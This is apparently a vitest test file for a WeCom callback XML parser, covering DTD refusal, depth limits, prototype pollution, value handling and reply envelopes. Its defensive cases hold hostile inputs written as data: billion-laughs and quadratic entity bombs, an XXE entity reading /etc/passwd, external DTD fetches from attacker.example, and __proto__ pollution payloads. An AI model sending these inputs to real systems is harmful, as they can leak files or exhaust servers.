import { describe, expect, it } from 'vitest';
import { BadRequestError } from '../../src/errors.ts';
import { WecomCrypto } from '../../src/platforms/wecom/crypto.ts';
import { buildReplyEnvelope, parseEnvelope, parseMessage } from '../../src/platforms/wecom/xml.ts';
import { eventXml, makeCallback, textMessageXml } from '../helpers/wecom-signer.ts';

/** Asserts a BadRequestError with this stable code (a non-throwing call fails the test). */
function expectRefusal(fn: () => unknown, code: string): void {
  expect(fn).toThrow(BadRequestError);
  expect(fn).toThrow(expect.objectContaining({ code, httpStatus: 400 }));
}

const both = [
  ['parseEnvelope', parseEnvelope],
  ['parseMessage', parseMessage],
] as const;

// The §2.1 envelope as WeCom formats it.
const ENVELOPE = `<xml>
  <ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName>
  <Encrypt><![CDATA[CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw==]]></Encrypt>
  <AgentID><![CDATA[1000002]]></AgentID>
</xml>`;

describe('DTDs and entities are refused before parsing', () => {
  const lol = (n: number) => `&lol${n - 1};`.repeat(10);
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol0 "lol">
${Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${lol(i + 1)}">`).join('\n')}
]>
<xml><Encrypt>&lol9;</Encrypt></xml>`;
  const quadratic = `<!DOCTYPE xml [<!ENTITY a "${'a'.repeat(50_000)}">]><xml><Encrypt>${'&a;'.repeat(50_000)}</Encrypt></xml>`;

  it.each([
    ['billion laughs', billionLaughs],
    ['quadratic blow-up', quadratic],
    ['external SYSTEM entity', '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Encrypt>&xxe;</Encrypt></xml>'],
    ['external DTD', '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><Encrypt>x</Encrypt></xml>'],
    ['parameter entity', '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><xml/>'],
    ['lower-case doctype', '<!doctype xml><xml><Encrypt>x</Encrypt></xml>'],
    ['ENTITY without DOCTYPE', '<xml><!ENTITY a "b"><Encrypt>x</Encrypt></xml>'],
    ['DOCTYPE after the root', '<xml><Encrypt>x</Encrypt></xml><!DOCTYPE xml>'],
  ])('%s → xml_dtd', (_name, body) => {
    for (const [, parse] of both) expectRefusal(() => parse(body), 'xml_dtd');
  });

  it('the same characters inside CDATA are a user\'s text, not a DTD', () => {
    const msg = parseMessage('<xml><Content><![CDATA[<!DOCTYPE html><!ENTITY x "y">]]></Content></xml>');
    expect(msg['Content']).toBe('<!DOCTYPE html><!ENTITY x "y">');
  });

  it('entities are never expanded, even the predefined ones', () => {
    expect(parseMessage('<xml><Content>a &amp; b &#60;</Content></xml>')['Content']).toBe('a &amp; b &#60;');
  });
});

describe('depth', () => {
  const nested = (n: number) => `<xml>${'<a>'.repeat(n - 1)}x${'</a>'.repeat(n - 1)}</xml>`;

  it('5,000 nested tags → xml_too_deep', () => {
    for (const [, parse] of both) {
      expectRefusal(() => parse(nested(5000)), 'xml_too_deep');
      expectRefusal(() => parse(`<xml>${'<a>'.repeat(5000)}`), 'xml_too_deep'); // unclosed too
    }
  });

  it('32 levels parse, 33 do not', () => {
    expect(() => parseMessage(nested(32))).not.toThrow();
    expectRefusal(() => parseMessage(nested(33)), 'xml_too_deep');
  });

  it('self-closing tags do not count as nesting', () => {
    expect(parseMessage(`<xml>${'<a/>'.repeat(100)}</xml>`)['a']).toHaveLength(100);
  });
});

describe('prototype pollution', () => {
  const hostile =
    '<xml><__proto__><polluted>yes</polluted></__proto__>' +
    '<constructor><prototype><polluted>yes</polluted></prototype></constructor>' +
    '<prototype>yes</prototype><Encrypt>abc</Encrypt><MsgType>text</MsgType></xml>';

  it('<__proto__>, <constructor>, <prototype> are dropped and pollute nothing', () => {
    const msg = parseMessage(hostile);
    expect(Object.keys(msg)).toEqual(['Encrypt', 'MsgType']);
    expect(Object.getPrototypeOf(msg)).toBeNull();
    expect(parseEnvelope(hostile)).toEqual({ encrypt: 'abc' });
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  it('nested results have no prototype either', () => {
    const msg = parseMessage('<xml><A><__proto__><polluted>yes</polluted></__proto__><B>1</B></A></xml>');
    const a = msg['A'] as Record<string, unknown>;
    expect(Object.getPrototypeOf(a)).toBeNull();
    expect(Object.keys(a)).toEqual(['B']);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('Object.prototype method names as tags are harmless', () => {
    const msg = parseMessage('<xml><hasOwnProperty>1</hasOwnProperty><toString>2</toString><MsgType>text</MsgType></xml>');
    expect(msg['MsgType']).toBe('text');
    expect(typeof Object.prototype.hasOwnProperty).toBe('function');
  });
});

describe('values stay exact strings', () => {
  it.each(['0012', '1e3', '0x10', '4561255354251345929', 'CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw==', '-0', '1.50', 'true', ' 7 '])(
    '%j',
    (value) => {
      const msg = parseMessage(`<xml><MsgId>${value}</MsgId><Content><![CDATA[${value}]]></Content></xml>`);
      expect(msg['MsgId']).toBe(value.trim()); // plain text is trimmed…
      expect(msg['Content']).toBe(value); // …CDATA is kept verbatim
    },
  );

  it('vector E decrypted: 19-digit MsgId kept exactly', () => {
    const e = {
      key: 'jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C',
      encrypt:
        'RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5zEPeusUiX5L5X/0lWfrf0QADHHhGd3QczcdCUpj911L3vg3W/sYYvuJTs3TUUkSUXxaccAS0qhxchrRYt66wiSpGLYL42aM6A8dTT+6k4aSknmPj48kzJs8qLjvd4Xgpue06DOdnLxAUHzM6+kDZ+HMZfJYuR+LtwGc2hgf5gsijff0ekUNXZiqATP7PF5mZxZ3Izoun1s4zG4LUMnvw2r+KqCKIw+3IQH03v+BCA9nMELNqbSf6tiWSrXJB3LAVGUcallcrw8V2t9EL4EhzJWrQUax5wLVMNS0+rUPA3k22Ncx4XXZS9o0MBH27Bo6BpNelZpS+/uh9KsNlY6bHCmJU9p8g7m3fVKn28H3KDYA5Pl/T8Z1ptDAVe0lXdQ2YoyyH2uyPIGHBZZIs2pDBS8R07+qN+E7Q==',
    };
    const msg = parseMessage(new WecomCrypto(e.key).decryptFor(e.encrypt, 'wx5823bf96d3bd56c7'));
    expect(msg).toEqual({
      ToUserName: 'wx5823bf96d3bd56c7',
      FromUserName: 'mycreate',
      CreateTime: '1409659813',
      MsgType: 'text',
      Content: 'hello',
      MsgId: '4561255354251345929',
      AgentID: '218',
    });
  });

  it('text message built like WeCom\'s, including "]]>" split across two CDATA sections', () => {
    const xml = textMessageXml({
      from: 'zhangsan',
      content: 'a]]>b 你好',
      msgId: 'CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw==',
      createTime: 1_700_000_000,
      corpId: 'ww1436e0e65a779aee',
      agentId: '1000002',
    });
    expect(parseMessage(xml)).toEqual({
      ToUserName: 'ww1436e0e65a779aee',
      FromUserName: 'zhangsan',
      CreateTime: '1700000000',
      MsgType: 'text',
      Content: 'a]]>b 你好',
      MsgId: 'CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw==',
      AgentID: '1000002',
    });
  });
});

describe('envelope', () => {
  it('parses the §2.1 envelope', () => {
    expect(parseEnvelope(ENVELOPE)).toEqual({
      toUserName: 'ww1436e0e65a779aee',
      encrypt: 'CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw==',
      agentId: '1000002',
    });
  });

  it('parses what the test signer sends', () => {
    const cb = makeCallback({
      token: 't',
      encodingAESKey: 'kWxPEV2UEDyxWpmPdKC3F4dgPDmOvfKX1HGnEUDS1aR',
      corpId: 'wwcorp',
      agentId: '1000002',
      plaintextXml: '<xml/>',
    });
    expect(parseEnvelope(cb.body)).toEqual({ toUserName: 'wwcorp', encrypt: cb.encrypt, agentId: '1000002' });
  });

  it('only Encrypt is required', () => {
    expect(parseEnvelope('<xml><Encrypt>abc</Encrypt></xml>')).toEqual({ encrypt: 'abc' });
  });

  it.each([
    ['no Encrypt', '<xml><ToUserName>ww</ToUserName></xml>'],
    ['empty Encrypt', '<xml><Encrypt><![CDATA[]]></Encrypt></xml>'],
    ['empty root', '<xml></xml>'],
    ['another root element', '<root><Encrypt>abc</Encrypt></root>'],
  ])('%s → xml_missing_field', (_name, body) => {
    expectRefusal(() => parseEnvelope(body), 'xml_missing_field');
  });

  it.each([
    ['Encrypt twice', '<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>'],
    ['Encrypt with children', '<xml><Encrypt><a>b</a></Encrypt></xml>'],
  ])('%s → xml_malformed (not guessed at)', (_name, body) => {
    expectRefusal(() => parseEnvelope(body), 'xml_malformed');
  });
});

describe('malformed documents', () => {
  it.each([
    ['empty', ''],
    ['whitespace', '  \n'],
    ['plain text', 'hello'],
    ['JSON', '{"encrypt":"abc"}'],
    ['mismatched tags', '<xml><Encrypt>abc</Msg></xml>'],
    ['unclosed root', '<xml><Encrypt>abc</Encrypt>'],
    ['unterminated CDATA', '<xml><Encrypt><![CDATA[abc</Encrypt></xml>'],
    ['unterminated comment', '<xml><!-- abc</xml>'],
    ['unterminated tag', '<xml><Encrypt'],
    ['two roots', '<xml><Encrypt>a</Encrypt></xml><xml/>'],
    ['a second, different root', '<xml><Encrypt>a</Encrypt></xml><other>b</other>'],
    ['text after the root', '<xml><Encrypt>a</Encrypt></xml>junk'],
    ['text before the root', 'junk<xml><Encrypt>a</Encrypt></xml>'],
    ['bogus <![ section', '<xml><![FOO[x]]><Encrypt>a</Encrypt></xml>'],
    ['raw "<" in text', '<xml><Encrypt>a < b</Encrypt></xml>'],
    ['raw "&" in text', '<xml><Encrypt>a & b</Encrypt></xml>'],
    ['two BOMs', '\uFEFF\uFEFF<xml><Encrypt>a</Encrypt></xml>'],
    ['BOM after whitespace', ' \uFEFF<xml><Encrypt>a</Encrypt></xml>'],
    ['U+FFFF with a CR', '<xml><Encrypt><![CDATA[a\r\uFFFF]]></Encrypt></xml>'],
  ])('%s → xml_malformed', (_name, body) => {
    for (const [, parse] of both) expectRefusal(() => parse(body), 'xml_malformed');
  });

  it('a non-string body → xml_malformed', () => {
    expectRefusal(() => parseEnvelope(Buffer.from(ENVELOPE) as unknown as string), 'xml_malformed');
  });

  it('a leading BOM is stripped (legal XML; WeCom never signs the envelope bytes)', () => {
    expect(parseEnvelope(`\uFEFF${ENVELOPE}`).encrypt).toBe('CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw==');
    expect(parseMessage('\uFEFF<xml><MsgType>text</MsgType></xml>')).toEqual({ MsgType: 'text' });
  });

  it('an XML declaration and comments are fine', () => {
    expect(parseMessage('<?xml version="1.0" encoding="UTF-8"?>\n<xml><!-- c --><MsgType>text</MsgType></xml>')).toEqual({
      MsgType: 'text',
    });
  });
});

describe('line endings', () => {
  it('CRLF and lone CR inside CDATA are preserved as given', () => {
    const content = 'line 1\r\nline 2\rline 3\n\r\n';
    const msg = parseMessage(`<xml>\r\n<MsgType><![CDATA[text]]></MsgType>\r\n<Content><![CDATA[${content}]]></Content>\r\n</xml>\r\n`);
    expect(msg).toEqual({ MsgType: 'text', Content: content });
  });

  it('an envelope with CRLF line endings parses', () => {
    expect(parseEnvelope(ENVELOPE.replaceAll('\n', '\r\n'))).toEqual(parseEnvelope(ENVELOPE));
  });
});

describe('template_card_event (§2.3)', () => {
  // The official sample, with CDATA as in real payloads.
  const SAMPLE = `<xml><ToUserName><![CDATA[toUser]]></ToUserName><FromUserName><![CDATA[FromUser]]></FromUserName>
<CreateTime>123456789</CreateTime><MsgType><![CDATA[event]]></MsgType>
<Event><![CDATA[template_card_event]]></Event>
<EventKey><![CDATA[key111]]></EventKey>
<TaskId><![CDATA[taskid111]]></TaskId>
<CardType><![CDATA[text_notice]]></CardType>
<ResponseCode><![CDATA[ResponseCode]]></ResponseCode>
<AgentID>1</AgentID>
<SelectedItems>
  <SelectedItem><QuestionKey><![CDATA[QuestionKey1]]></QuestionKey>
    <OptionIds><OptionId><![CDATA[OptionId1]]></OptionId><OptionId><![CDATA[OptionId2]]></OptionId></OptionIds>
  </SelectedItem>
  <SelectedItem><QuestionKey><![CDATA[QuestionKey2]]></QuestionKey>
    <OptionIds><OptionId><![CDATA[OptionId1]]></OptionId></OptionIds>
  </SelectedItem>
</SelectedItems></xml>`;

  it('parses, with SelectedItems as nested objects and arrays of strings', () => {
    expect(parseMessage(SAMPLE)).toEqual({
      ToUserName: 'toUser',
      FromUserName: 'FromUser',
      CreateTime: '123456789',
      MsgType: 'event',
      Event: 'template_card_event',
      EventKey: 'key111',
      TaskId: 'taskid111',
      CardType: 'text_notice',
      ResponseCode: 'ResponseCode',
      AgentID: '1',
      SelectedItems: {
        SelectedItem: [
          { QuestionKey: 'QuestionKey1', OptionIds: { OptionId: ['OptionId1', 'OptionId2'] } },
          // A single element is a value, not a one-element array: consumers must normalise.
          { QuestionKey: 'QuestionKey2', OptionIds: { OptionId: 'OptionId1' } },
        ],
      },
    });
  });

  it('the signer builds the same shape', () => {
    const xml = eventXml({
      from: 'FromUser',
      event: 'template_card_event',
      eventKey: 'key111',
      createTime: 123456789,
      TaskId: 'taskid111',
      CardType: 'button_interaction',
      ResponseCode: 'rc',
      SelectedItems: { SelectedItem: [{ QuestionKey: 'q1', OptionIds: { OptionId: ['o1', 'o2'] } }] },
    });
    const msg = parseMessage(xml);
    expect(msg['Event']).toBe('template_card_event');
    expect(msg['SelectedItems']).toEqual({ SelectedItem: { QuestionKey: 'q1', OptionIds: { OptionId: ['o1', 'o2'] } } });
  });

  it('empty and self-closing elements are empty strings', () => {
    expect(parseMessage('<xml><EventKey><![CDATA[]]></EventKey><SelectedItems/><X></X></xml>')).toEqual({
      EventKey: '',
      SelectedItems: '',
      X: '',
    });
  });
});

describe('buildReplyEnvelope (§2.6)', () => {
  const reply = {
    encrypt: '9s4gMv99m88kKTh/H8IdkOiMg6bisoy3ypwy9H4hvSPe9nsGaqyw5hhSjdYbcrKk+j3nba4HMOTzHrluLBYqxg==',
    signature: '407518b7649e86ef23978113f92d27afa9296533',
    timestamp: '1411525903',
    nonce: '461056294',
  };

  it('matches the official template', () => {
    expect(buildReplyEnvelope(reply)).toBe(
      `<xml><Encrypt><![CDATA[${reply.encrypt}]]></Encrypt><MsgSignature><![CDATA[${reply.signature}]]></MsgSignature>` +
        `<TimeStamp>1411525903</TimeStamp><Nonce><![CDATA[461056294]]></Nonce></xml>`,
    );
  });

  it('round-trips through our own parser', () => {
    expect(parseMessage(buildReplyEnvelope(reply))).toEqual({
      Encrypt: reply.encrypt,
      MsgSignature: reply.signature,
      TimeStamp: reply.timestamp,
      Nonce: reply.nonce,
    });
  });

  it('refuses values that would break the document', () => {
    expect(() => buildReplyEnvelope({ ...reply, timestamp: '1<2' })).toThrow();
    expect(() => buildReplyEnvelope({ ...reply, nonce: 'a]]>b' })).toThrow();
  });
});
